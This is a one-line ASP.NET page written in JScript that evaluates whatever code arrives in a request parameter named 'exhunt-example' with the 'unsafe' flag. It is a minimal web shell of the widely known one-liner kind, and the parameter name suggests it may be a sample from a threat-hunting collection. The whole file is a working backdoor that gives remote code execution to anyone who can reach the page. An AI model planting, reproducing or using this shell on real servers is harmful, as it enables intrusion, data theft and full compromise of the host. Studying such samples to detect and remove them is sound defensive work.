<%@ Page Language="Jscript"%><%eval(Request.Item["exhunt-example"],"unsafe");%>
